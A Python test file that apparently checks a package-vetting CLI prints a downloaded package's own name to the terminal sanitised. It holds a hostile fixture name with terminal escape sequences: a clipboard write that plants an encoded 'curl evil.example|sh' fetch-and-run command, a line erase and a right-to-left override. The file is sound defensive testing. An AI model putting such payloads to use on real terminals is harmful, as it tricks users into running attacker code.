"""The table's first line names what was examined: ``vet <package>: BLOCK``. For a local archive
or folder, the package is named as its own ``package.json`` names it, so its author chose that
text, and the line printed it raw: an OSC 52 in the package's name wrote the user's clipboard,
a cursor move erased the line, a right-to-left override reversed it (the verdict with it), on
the terminal of the user vetting a download before installing it. Every other value of the
table went through the sanitiser; now the subject does too. The real CLI on a pseudo-terminal
(rich strips BEL, but not ESC: an OSC ended by ESC backslash passed) and through a pipe."""

from __future__ import annotations

import json
from pathlib import Path

from cli_kit import mcpward, on_a_terminal

#: A clipboard write ended by ST (ESC backslash, which rich does not strip), the line erased, a
#: right-to-left override.
HOSTILE_NAME = "evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\\x1b[2K\u202emcp"
#: What must never reach the terminal raw (the table's own colours are escape sequences too).
RAW = ("\x1b]", "\x1b\\", "\x1b[2K", "\x1b[8m", "\x07", "\u202e")


def _package(tmp_path: Path, name: str, version: str) -> Path:
    folder = tmp_path / "download"
    folder.mkdir()
    (folder / "package.json").write_text(
        json.dumps({"name": name, "version": version, "scripts": {"postinstall": "node setup.js"}}), "utf-8"
    )
    return folder


def _run(args: list[str], tmp_path: Path, *, terminal: bool) -> str:
    env = {"MCPWARD_DATA_DIR": str(tmp_path / "data")}
    if not terminal:
        done = mcpward(*args, **env)
        return done.stdout
    return on_a_terminal(*args, env=env)[1]


def test_a_packages_own_name_reaches_no_terminal_raw(tmp_path: Path) -> None:
    folder = _package(tmp_path, HOSTILE_NAME, "1.0.0\x1b[8m")
    for terminal in (True, False):
        shown = _run(["vet", str(folder), "--offline"], tmp_path, terminal=terminal)
        assert "BLOCK" in shown or "REVIEW" in shown or "PASS" in shown, shown
        assert not any(raw in shown for raw in RAW), (terminal, shown[:300])
        assert "\\x1b]52" in shown  # shown, escaped: the reader sees what the package is named


def test_a_plain_package_name_is_shown_as_it_is(tmp_path: Path) -> None:
    folder = _package(tmp_path, "@acme/files", "1.2.3")
    shown = _run(["vet", str(folder), "--offline"], tmp_path, terminal=False)
    assert shown.startswith("vet @acme/files@1.2.3"), shown[:200]
